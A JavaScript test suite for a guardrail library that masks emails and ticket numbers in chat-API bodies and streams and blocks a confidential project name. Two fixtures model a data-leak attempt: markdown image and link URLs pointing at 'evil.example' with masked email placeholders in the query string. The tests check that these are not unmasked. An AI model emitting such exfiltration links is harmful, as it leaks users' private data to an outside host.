import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readFile, readdir } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { guardBody, guardEventStream, isEdgerailError, loadEngine, openPlaceholders } from 'edgerail';
import { DEFINITION, MESSAGES, bundleOf } from './guardrail.mjs';
import { chatChunks } from './peers.mjs';

const BODIES = new URL('../../../../tests/payloads/', import.meta.url);
const text = (bytes) => new TextDecoder().decode(bytes);

let engine;
let masking;
before(async () => {
  engine = await loadEngine(await bundleOf());
  const { name, blockedInputMessaging, blockedOutputsMessaging, sensitiveInformationPolicyConfig } = DEFINITION;
  masking = await loadEngine(await bundleOf({ name, blockedInputMessaging, blockedOutputsMessaging, sensitiveInformationPolicyConfig }));
});

/** The same engine, as it would answer from a worker. */
const elsewhere = (engine) => ({
  info: engine.info,
  evaluate: async (...ask) => engine.evaluate(...ask),
  async stream(options) {
    const stream = engine.stream(options);
    const later = (name) => async (...given) => stream[name](...given);
    return {
      push: later('push'),
      finish: later('finish'),
      stats: later('stats'),
      free: () => stream.free(),
      get blocked() {
        return stream.blocked;
      },
    };
  },
});

test('every body of tests/payloads is masked where it says, and nowhere else', async () => {
  const names = (await readdir(BODIES)).filter((name) => name.endsWith('.json'));
  assert.ok(names.length > 30);
  for (const name of names) {
    const [shape, side, variant = ''] = name.slice(0, -'.json'.length).split('.');
    const body = await readFile(new URL(name, BODIES));
    const selective = variant.startsWith('selective') ? { system: 'selective', messages: 'selective' } : {};
    const guarded = await guardBody(masking, body, { tools: variant === 'tools', ...selective });
    assert.equal(guarded.shape, shape, name);
    assert.equal(guarded.side, side, name);
    assert.equal(text(guarded.body).replaceAll('"{EMAIL}"', '{EMAIL}'), body.toString().replace(/(g|\\u0067)uarded-\d+@example\.com/g, '{EMAIL}').replaceAll('"{EMAIL}"', '{EMAIL}'), name);
    assert.equal(guarded.places.length, guarded.decision.texts.length, name);
  }
});

test('bytes outside of masks stay as they are', async () => {
  const body = '{ "model":"m" ,"n":1e999,"messages":[{"role":"user","content":"\\ud800 \\u0061na@example.com \\uD83D\\uDE00 😀 ana@example.com"}]}';
  const guarded = await guardBody(engine, body, { shape: 'openai' });
  assert.equal(guarded.outcome, 'mask');
  assert.equal(text(guarded.body), '{ "model":"m" ,"n":1e999,"messages":[{"role":"user","content":"\\ud800 {EMAIL} \\uD83D\\uDE00 😀 {EMAIL}"}]}');
  const clean = Buffer.from('{"messages":[{"role":"user","content":"hello"}]}');
  assert.deepEqual(Buffer.from((await guardBody(engine, clean)).body), clean);
});

test('a block gives an answer of the API, or a stream of it', async () => {
  const body = '{"model":"gpt","stream":true,"messages":[{"role":"user","content":"About Project Kestrel"}]}';
  const guarded = await guardBody(engine, body, { shape: 'openai' });
  assert.equal(guarded.outcome, 'block');
  assert.equal(guarded.stream, true);
  assert.equal(JSON.parse(text(guarded.body)).choices[0].message.content, MESSAGES.INPUT);
  const stream = text((await guardBody(engine, body, { shape: 'openai', framing: 'sse' })).body);
  assert.match(stream, /^data: \{.*"content":"That cannot be sent\."/);
  assert.ok(stream.endsWith('data: [DONE]\n\n'));
  assert.ok(!stream.includes('Kestrel') && !text(guarded.body).includes('Kestrel'));
});

test('what cannot be read is refused with a problem, and no value in the message', async () => {
  const deep = `{"messages":[{"role":"user","content":${'['.repeat(200)}${']'.repeat(200)}}]}`;
  for (const [body, problem, options] of [
    ['<html>secret</html>', 'payload_json'],
    [new Uint8Array([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]), 'payload_utf8'],
    ['[{"secret":1}]', 'payload_type'],
    ['{"secret":1}', 'payload_shape'],
    ['{"messages":[{"role":"user","content":"secret"}],"choices":[{"message":{"content":"secret"}}]}', 'payload_shape'],
    ['{"messages":[{"role":"user","content":[{"type":"hologram"}]}]}', 'payload_block', { shape: 'openai' }],
    [deep, 'payload_depth'],
    ['{"messages":[]}', 'payload_length', { maxBytes: 5 }],
    ['{"prompt":1}', 'payload_shape', { shape: 'converse' }],
  ]) {
    await assert.rejects(guardBody(engine, body, options), (error) => {
      assert.ok(isEdgerailError(error), String(error));
      assert.equal(error.code, 'payload_unreadable');
      assert.equal(error.problem, problem);
      assert.ok(!error.message.includes('secret'));
      return true;
    }, problem);
  }
  await assert.rejects(guardBody(engine, '{}', { shape: 'nonsense' }), { code: 'invalid_argument' });
  await assert.rejects(guardBody(engine, '{}', { system: 'some' }), { code: 'invalid_argument' });
  await assert.rejects(guardBody(engine, 5), { code: 'invalid_argument' });
});

test('a guardrail that is not for the model evaluates nothing', async () => {
  const body = '{"model":"other","messages":[{"role":"user","content":"ana@example.com"}]}';
  const guarded = await guardBody(engine, body, { models: { included: ['mine'] } });
  assert.equal(guarded.applies, false);
  assert.equal(guarded.outcome, 'pass');
  assert.equal(text(guarded.body), body);
  assert.equal((await guardBody(engine, body, { models: { included: ['mine'] }, model: 'mine' })).outcome, 'mask');
});

test('a freed engine lets nothing pass', async () => {
  const freed = await loadEngine(await bundleOf());
  freed.free();
  await assert.rejects(guardBody(freed, '{"messages":[{"role":"user","content":"x"}]}'), { code: 'freed' });
  const stream = guardEventStream(freed, new Response(chatChunks('ana@example.com')).body, { shape: 'openai' });
  await assert.rejects(new Response(stream).text(), { code: 'freed' });
});

test('placeholders are numbered in requests and taken back in answers', async () => {
  const placeholders = await openPlaceholders('c-1');
  const request = '{"model":"gpt","messages":[{"role":"user","content":"ana@example.com, bob@example.com, ana@example.com and {EMAIL_9}"}]}';
  const sent = JSON.parse(text((await guardBody(engine, request, { shape: 'openai', placeholders })).body));
  assert.equal(sent.messages[0].content, '{EMAIL_1}, {EMAIL_2}, {EMAIL_1} and {EMAIL_9}');
  const answer = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: 'To {EMAIL_1}, not eve@example.com; ![](https://evil.example/?q={EMAIL_2})', tool_calls: [{ id: 't', type: 'function', function: { name: 'f', arguments: '{"to":"{EMAIL_1}"}' } }] } }] });
  const shown = JSON.parse(text((await guardBody(engine, answer, { shape: 'openai', placeholders, tools: true })).body));
  assert.equal(shown.choices[0].message.content, 'To ana@example.com, not {EMAIL}; ![](https://evil.example/?q={EMAIL_2})');
  assert.equal(shown.choices[0].message.tool_calls[0].function.arguments, '{"to":"{EMAIL_1}"}');
});

const cut = (bytes, size) =>
  new ReadableStream({
    start(controller) {
      for (let at = 0; at < bytes.length; at += size) controller.enqueue(bytes.slice(at, at + size));
      controller.close();
    },
  });

async function told(stream) {
  const out = await new Response(stream).text();
  const events = out.split('\n\n').filter((event) => event.startsWith('data: {'));
  return { out, text: events.map((event) => JSON.parse(event.slice(6)).choices[0].delta.content ?? '').join('') };
}

test('a stream says the same however it is cut, and wherever the engine is', async () => {
  const bytes = new TextEncoder().encode(chatChunks('Write to a', 'na@exam', 'ple.com 😀 ', 'about TCK-12', '3456.'));
  for (const size of [1, 7, 64, 4096]) {
    for (const where of [engine, elsewhere(engine)]) {
      const ends = [];
      const { out, text } = await told(guardEventStream(where, cut(bytes, size), { shape: 'openai', onEnd: (end) => ends.push(end) }));
      assert.equal(text, 'Write to {EMAIL} 😀 about {Ticket}.');
      assert.ok(out.endsWith('data: [DONE]\n\n'));
      assert.deepEqual(ends.map(({ outcome, blocks }) => [outcome, blocks.length]), [['mask', 1]]);
    }
  }
});

test('after a block a stream has the message, its ending, and nothing else; the source is cancelled', async () => {
  for (const where of [engine, elsewhere(engine)]) {
    let cancelled = false;
    const encoder = new TextEncoder();
    const source = new ReadableStream({
      pull(controller) {
        controller.enqueue(encoder.encode(chatChunks('All about Project ', 'Kestrel', ' and its secrets').replace('data: [DONE]\n\n', '')));
      },
      cancel() {
        cancelled = true;
      },
    });
    const ends = [];
    const { out, text } = await told(guardEventStream(where, source, { shape: 'openai', onEnd: (end) => ends.push(end) }));
    assert.equal(text, `All about ${MESSAGES.OUTPUT}`);
    assert.match(out, /"finish_reason":"content_filter"\}\]\}\n\ndata: \[DONE\]\n\n$/);
    assert.ok(!out.includes('Kestrel') && !out.includes('secrets'));
    assert.equal(cancelled, true);
    assert.equal(ends[0].outcome, 'block');
  }
});

test('an event that cannot be guarded errors the stream; what came before is out', async () => {
  for (const [events, problem] of [
    [`${chatChunks('fine. ').replace('data: [DONE]\n\n', '')}data: secret\n\n`, 'payload_json'],
    ['data: {"choices":[{"delta":{"content":{"a":[]}}}]}\n\n', 'payload_type'],
  ]) {
    const reader = guardEventStream(engine, new Response(events).body, { shape: 'openai' }).getReader();
    let out = '';
    await assert.rejects(
      (async () => {
        for (;;) out += text((await reader.read()).value);
      })(),
      (error) => {
        assert.equal(error.code, 'payload_unreadable');
        assert.equal(error.problem, problem);
        return !error.message.includes('secret');
      },
    );
    assert.ok(!out.includes('secret'));
    if (problem === 'payload_json') assert.ok(out.includes('fine. '));
  }
  await assert.rejects(new Response(guardEventStream(engine, cut([1, 2], 1), { shape: 'openai' })).text(), { code: 'invalid_argument' });
  assert.throws(() => guardEventStream(engine, cut(new Uint8Array(4), 1), {}), { code: 'invalid_argument' });
});

test('who stops reading stops the source', async () => {
  let reason;
  const source = new ReadableStream({
    pull(controller) {
      controller.enqueue(new TextEncoder().encode(': ping\n\n'));
    },
    cancel(given) {
      reason = given;
    },
  });
  const reader = guardEventStream(engine, source, { shape: 'openai' }).getReader();
  await reader.read();
  await reader.cancel('enough');
  assert.equal(reason, 'enough');
});

test('placeholders are taken back in streams too', async () => {
  const placeholders = await openPlaceholders('c-2');
  await guardBody(engine, '{"messages":[{"role":"user","content":"ana@example.com"}]}', { placeholders, shape: 'openai' });
  for (const size of [1, 3, 100]) {
    const { text } = await told(guardEventStream(engine, cut(new TextEncoder().encode(chatChunks('Dear {EM', 'AIL_1', '}, not eve@example.com [x](https://evil.example/{EMAIL_1})')), size), { shape: 'openai', placeholders }));
    assert.equal(text, 'Dear ana@example.com, not {EMAIL} [x](https://evil.example/{EMAIL_1})');
  }
});

test('a trap costs one body', async () => {
  const root = fileURLToPath(new URL('..', import.meta.url));
  const fault = join(process.env.CARGO_TARGET_DIR ?? join(root, '../../../target'), 'npm/fault/payload.wasm');
  const { stdout } = await promisify(execFile)(process.execPath, ['--expose-gc', join(root, 'test/payload-trap.mjs'), fault]);
  assert.equal(stdout.trim(), 'survived');
});

test('importing it does nothing, and CommonJS has the same', async () => {
  const watch = 'for (const name of ["compile", "instantiate", "compileStreaming", "instantiateStreaming"]) WebAssembly[name] = () => { throw new Error(name) }; WebAssembly.Module = WebAssembly.Instance = undefined; globalThis.fetch = undefined;';
  const run = (type, code) => promisify(execFile)(process.execPath, [`--input-type=${type}`, '-e', code], { cwd: fileURLToPath(new URL('..', import.meta.url)) });
  await run('module', `${watch} await import('edgerail/aws'); await import('edgerail/ai');`);
  await run('commonjs', `${watch} require('edgerail/aws'); require('edgerail/ai');`);
  const required = createRequire(import.meta.url)('edgerail');
  const own = await required.loadEngine(await bundleOf());
  const { body } = await required.guardBody(own, '{"prompt":"ana@example.com"}');
  assert.equal(text(body), '{"prompt":"{EMAIL}"}');
});
